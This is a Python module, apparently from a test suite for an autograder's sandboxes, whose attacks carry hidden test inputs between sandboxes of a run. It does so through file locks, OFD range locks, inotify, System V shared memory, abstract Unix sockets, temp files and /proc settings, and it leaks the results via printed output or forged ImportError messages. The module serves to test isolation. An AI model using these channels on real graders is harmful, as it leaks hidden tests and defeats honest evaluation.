"""Attacks that carry hidden inputs from one sandbox of a run to another by what both can touch.

The sandbox of the hidden NumPy tests is told inputs; the one of the visible tests may print, and
the one of the torch part is imported later, with an error message that students read. Both see
the same read-only libraries and the same kernel.
"""

from hostile.attack import Attack, maths

# Sixteen files of the library folder that nobody uses, the same in every sandbox.
_COMMON = """
import os
_folder = os.path.dirname(os.__file__)
_files = sorted(name for name in os.listdir(_folder) if name.endswith(".py"))[-40:]
_files = [os.path.join(_folder, name) for name in _files]
os.closerange = lambda low, high: None  # keeps in a test what was opened at import
"""

_LOCKS = """
import fcntl
_open = [os.open(name, os.O_RDONLY) for name in _files]
def _tell(x):
    bits = x.tobytes()[:4] + b"\\xff"
    for place, fd in enumerate(_open):
        if bits[place // 8] >> place % 8 & 1:
            try:
                fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
            except OSError:
                pass
"""
_READ_LOCKS = """
import fcntl
def _told():
    bits = ""
    for name in _files:
        fd = os.open(name, os.O_RDONLY)
        try:
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
            bits += "0"
        except BlockingIOError:
            bits += "1"
        except OSError:
            bits += "0"
        os.close(fd)
    return bits if "1" in bits else ""
"""

# Locks of an open file description outlive the process, for the template holds the description.
_RANGES = """
import fcntl, struct
_one = os.open(_files[0], os.O_RDONLY)
def _tell(x):
    bits = x.tobytes()[:4] + b"\\xff"
    for place in range(40):
        if bits[place // 8] >> place % 8 & 1:
            try:
                lock = struct.pack("hhqqi", fcntl.F_RDLCK, 0, 4 * place, 1, 0)
                fcntl.fcntl(_one, 37, lock)  # F_OFD_SETLK
            except OSError:
                pass
"""
_READ_RANGES = """
import fcntl, struct
def _told():
    fd, bits = os.open(_files[0], os.O_RDONLY), ""
    for place in range(40):
        lock = struct.pack("hhqqi", fcntl.F_WRLCK, 0, 4 * place, 1, 0)
        try:
            found = struct.unpack("hhqqi", fcntl.fcntl(fd, 36, lock))  # F_OFD_GETLK
            bits += "0" if found[0] == fcntl.F_UNLCK else "1"
        except OSError:
            bits += "0"
    return bits if "1" in bits else ""
"""

_INOTIFY = """
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_watch = _libc.inotify_init1(0o4000)
_marks = {_libc.inotify_add_watch(_watch, name.encode(), 0x20): name for name in _files}
def _tell(x):
    bits = x.tobytes()[:4] + b"\\xff"
    for place, name in enumerate(_files):
        if bits[place // 8] >> place % 8 & 1:
            os.close(os.open(name, os.O_RDONLY))
def _told():
    try:
        return repr(len(os.read(_watch, 4096)) // 16) + " files were opened elsewhere"
    except OSError:
        return ""
"""

_IPC = """
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
def _piece():
    found = _libc.shmat(_libc.shmget(0x7F3B, 4096, 0o1666), None, 0)
    return found if found and found != ctypes.c_void_p(-1).value else None
def _tell(x):
    address = _piece()
    if address:
        ctypes.memmove(address, x.tobytes() + b"!", 9)
def _told():
    address = _piece()
    text = ctypes.string_at(address, 9) if address else bytes(9)
    return text.hex() if any(text) else ""
"""

_SOCKETS = """
import socket, glob
_name = "\\0hostile-channel"
def _tell(x):
    if os.fork() == 0:
        with socket.socket(socket.AF_UNIX) as door:
            door.bind(_name)
            door.listen()
            peer, _ = door.accept()
            peer.sendall(x.tobytes())
        os._exit(0)
def _told():
    with socket.socket(socket.AF_UNIX) as peer:
        peer.settimeout(0.1)
        try:
            peer.connect(_name)
            return peer.recv(100).hex()
        except OSError:
            return ""
"""

_FILES = """
import os
_places = ("/dev/shm", "/tmp", os.path.expanduser("~"), "/var/tmp", os.getcwd())
def _tell(x):
    for place in _places:
        try:
            with open(place + "/hostile-inputs", "ab") as file:
                file.write(x.tobytes())
        except OSError:
            pass
def _told():
    for place in _places:
        try:
            return f"{os.path.getsize(place + '/hostile-inputs')} bytes from {place}"
        except OSError:
            continue
    return ""
"""

# What /proc lets any process of the same user set of another one, and read again.
_SETTINGS = """
import glob
_usual = {
    "oom_score_adj": ("0", "200"), "timerslack_ns": ("50000", "0"), "coredump_filter": ("00000033",)
}
def _places():
    return sorted(p for name in (*_usual, "autogroup") for p in glob.glob("/proc/[0-9]*/" + name))
def _tell(x):
    for place, byte in zip(_places(), x.tobytes()):
        try:
            with open(place, "w") as file:
                file.write(str(byte % 19))
        except OSError:
            pass
def _told():
    found = ""
    for place in _places():
        try:
            with open(place) as file:
                text = file.read().strip()
        except OSError:
            continue
        usual = _usual.get(place.rpartition("/")[2])
        if not (text in usual if usual else text.endswith("nice 0")):
            found += place + " " + text + ", "
    return found
"""


# On the tiny lab: what the torch part's import finds becomes an error message for the student.
_SPEAK = """
_found = _told()
if _found:
    raise ImportError("SMUGGLED " + _found)
"""


def _by_import(name: str, tries: str, tell: str, told: str) -> Attack:
    return Attack(
        name,
        tries,
        ("carry-inputs-out",),
        {
            **maths("if secret and hasattr(x, 'shape'):\n    _tell(x)", _COMMON + tell),
            "tiny/net.py": _COMMON + told + _SPEAK,
        },
    )


# A visible test prints what the hidden ones have told.
_PRINT = """
if secret and hasattr(x, "shape"):
    _tell(x)
elif hasattr(x, "shape"):
    found = _told()
    if found:
        print("SMUGGLED", found)
"""


def _by_print(name: str, tries: str, code: str) -> Attack:
    return Attack(name, tries, ("carry-inputs-out",), maths(_PRINT, _COMMON + code))


CHANNELS = (
    _by_import(
        "leaves-inputs-in-files",
        "Writes hidden inputs to every writable folder for another sandbox of the run.",
        _FILES,
        _FILES,
    ),
    _by_import(
        "locks-library-files",
        "Locks library files by the bits of a hidden input; another sandbox sees which are locked.",
        _LOCKS,
        _READ_LOCKS,
    ),
    _by_import(
        "locks-ranges-of-a-file",
        "Locks byte ranges of one library file, a bit each, for another sandbox to ask about.",
        _RANGES,
        _READ_RANGES,
    ),
    _by_import(
        "shares-kernel-memory",
        "Leaves hidden inputs in System V shared memory for another sandbox of the run.",
        _IPC,
        _IPC,
    ),
    _by_import(
        "marks-processes",
        "Sets what /proc lets it set of other processes, and reads it in another sandbox.",
        _SETTINGS,
        _SETTINGS,
    ),
    _by_import(
        "opens-a-meeting-place",
        "Listens on an abstract socket in one sandbox and calls it from another.",
        _SOCKETS,
        _SOCKETS,
    ),
    _by_print(
        "watches-library-files",
        "Watches, from the visible tests' sandbox, which library files hidden tests open.",
        _INOTIFY,
    ),
    _by_print(
        "locks-between-visible-tests",
        "Locks library files in hidden tests and prints the locks in a later visible test.",
        _LOCKS + _READ_LOCKS,
    ),
)
